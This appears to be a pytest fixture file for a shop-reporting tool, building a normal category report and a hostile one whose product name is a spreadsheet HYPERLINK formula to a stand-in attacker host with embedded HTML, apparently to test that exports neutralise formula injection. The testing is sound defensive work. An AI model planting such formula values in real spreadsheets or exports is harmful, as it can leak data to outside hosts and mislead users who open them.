"""Reports of the tiny shop, and of one whose names attack whoever opens them."""

from __future__ import annotations

import shutil
from datetime import date
from typing import TYPE_CHECKING

import pandas as pd
import pytest

from signals import PRODUCTS, Col, Lake
from ui.exports.report import Report, ReportOrder, make_report
from ui.settings import load_settings
from ui.wiring import make_analyst

if TYPE_CHECKING:
    from agent import Analyst

FORMULA = '=HYPERLINK("http://attacker.example/?d=1","<b>Café</b>")'
WEEK = date(2025, 12, 31)


@pytest.fixture(scope="session")
def analyst(small_shop) -> Analyst:
    """Who answers about the tiny shop."""
    return make_analyst(small_shop.settings)


@pytest.fixture(scope="session")
def report(analyst) -> Report:
    """The report of a category for the first week ahead."""
    return make_report(ReportOrder(analyst.catalogue["category:Wearables"], WEEK), analyst.answer)


@pytest.fixture(scope="session")
def hostile_report(small_shop, tmp_path_factory) -> Report:
    """The report of a product that is called like a formula."""
    home = tmp_path_factory.mktemp("hostile") / "shop"
    shutil.copytree(small_shop.settings.home, home)
    settings = load_settings(home, scorer="lexicon", encoder="hashing")
    named = {
        Col.PRODUCT_ID: ["P1"], Col.NAME: [FORMULA], Col.CATEGORY: ["Wearables"],
        Col.AVAILABLE_AT: pd.Timestamp("2025-06-01", tz="UTC"),
    }  # fmt: skip
    with Lake(settings.workspace.lake).batch() as batch:
        batch.add(PRODUCTS, pd.DataFrame(named))
    analyst = make_analyst(settings)
    return make_report(ReportOrder(analyst.catalogue["product:P1"], WEEK), analyst.answer)
